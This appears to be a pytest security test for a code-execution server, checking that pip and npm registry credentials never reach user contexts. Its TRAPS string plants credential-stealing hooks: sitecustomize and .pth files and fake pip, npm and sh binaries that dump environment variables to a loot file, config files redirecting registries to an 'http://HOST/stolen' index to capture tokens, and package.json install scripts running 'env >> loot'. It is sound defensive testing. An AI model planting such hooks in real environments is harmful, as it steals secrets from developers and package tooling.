"""Credentials of registries, which the server has and package tools use: nothing that a context does gets hold of them."""

from __future__ import annotations

import base64
import contextlib
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest

from tests.harness.client import Repl
from tests.harness.package_files import telling_project
from tests.harness.registry import Registry
from tests.harness.server import Server

SECRET = "secret-of-the-registry"

# What runs in a tool writes down that it did. Every place from which pip or npm, or what they start, could take code or settings.
TRAPS = """
import os, pathlib, stat, sys
loot = pathlib.Path("loot").absolute()
python = f"import os; open({str(loot)!r}, 'a').write(__file__ + repr(dict(os.environ)))"
packages = pathlib.Path(os.environ["POLYREPL_PACKAGES"])
version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
for base in (packages, packages / "1"):
    site = base / "lib" / version / "site-packages"
    (site / "pip").mkdir(parents=True)
    for name in ("sitecustomize", "usercustomize", "pip/__init__", "pip/__main__", "keyring", "venv", "json"):
        (site / f"{name}.py").write_text(python)
    (site / "trap.pth").write_text(f"import os; open({str(loot)!r}, 'a').write(repr(dict(os.environ)))\\n")
    (base / "bin").mkdir()
    for name in ("pip", "npm", "node", "git", "sh"):
        program = base / "bin" / name
        program.write_text(f"#!/bin/sh\\nenv >> {loot}\\n")
        program.chmod(0o755)
for place in (pathlib.Path(), pathlib.Path("..")):
    for name in ("pip.conf", "setup.cfg"):
        (place / name).write_text("[global]\\nindex-url = http://HOST/stolen\\n")
    (place / ".npmrc").write_text("registry=http://HOST/stolen/\\n//HOST/stolen/:_authToken=${NPM_TOKEN}\\n")
for name in ("sitecustomize", "pip", "json"):
    pathlib.Path(f"{name}.py").write_text(python)
pathlib.Path("package.json").write_text('{"scripts": {"preinstall": "env >> loot", "install": "env >> loot", "prepare": "env >> loot"}}')
"""


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Registry]:
    seen: list[str] = []

    def look_at_processes() -> None:
        """As any process of the same user can, for as long as a tool runs."""
        for process in psutil.Process().children(recursive=True):
            try:
                told = [*process.cmdline(), *process.environ().values()] if "serve" not in process.cmdline() else []
            except psutil.Error:
                continue
            seen.extend(text for text in told if SECRET in text)

    with Registry(tmp_path_factory.mktemp("registry"), on_request=look_at_processes) as registry:
        yield registry
    assert not seen


@pytest.fixture(scope="module")
def server(registry: Registry, shown: Path) -> Iterator[Server]:
    npmrc = {f"npm_config_//{registry.host}/npm/:_authToken": SECRET, "NPM_TOKEN": SECRET}
    env = {
        "PIP_INDEX_URL": f"http://user:{SECRET}@{registry.host}/simple",
        "PIP_EXTRA_INDEX_URL": "",
        "PIP_CONFIG_FILE": "/dev/null",
        "npm_config_registry": f"http://{registry.host}/npm/",
        **npmrc,
    }
    settings = {"package_sources": "any", "pool_max": "0", "kernelspecs": "", "read_only_mounts": str(shown)}
    with Server(settings=settings, env=env) as server:
        yield server


@pytest.fixture
def repl(server: Server, registry: Registry) -> Iterator[Repl]:
    client = server.client()
    with contextlib.closing(client):
        repl = Repl(client, "python")
        client.create("python", repl.id)
        assert repl.run(TRAPS.replace("HOST", registry.host)).status == "ok"
        yield repl
        repl.delete()


def test_the_tools_use_them_and_take_nothing_from_a_context(repl: Repl, registry: Registry) -> None:
    post = repl.client.http.post
    body = {"packages": ["offered"], "language": "python"}
    installed = post(f"/contexts/{repl.id}/packages", json=body).json()
    assert installed["installed"] == [{"name": "offered", "version": "1.0"}], installed
    assert repl.client.execute("1", context_id=repl.id, language="typescript").status == "ok"
    body = {"packages": ["offered-x"], "language": "typescript"}
    installed = post(f"/contexts/{repl.id}/packages", json=body).json()
    assert installed["installed"] == [{"name": "offered-x", "version": "1.0.0"}], installed
    basic = base64.b64encode(f"user:{SECRET}".encode()).decode()
    assert {("simple", f"Basic {basic}"), ("npm", f"Bearer {SECRET}")} <= registry.authorizations
    assert "stolen" not in {place for place, _ in registry.authorizations}
    loot = repl.run("print(loot.read_text() if loot.exists() else '')").stdout  # the kernel itself runs some of it
    assert SECRET not in "".join(loot)


def test_nothing_is_built_that_would_see_them(repl: Repl, shelf: Path) -> None:
    body = {"packages": [telling_project(shelf)], "language": "python"}
    result = repl.client.http.post(f"/contexts/{repl.id}/packages", json=body).json()
    assert (result["status"], result["error"]["name"]) == ("error", "BuildRefused")
    assert SECRET not in str(result)
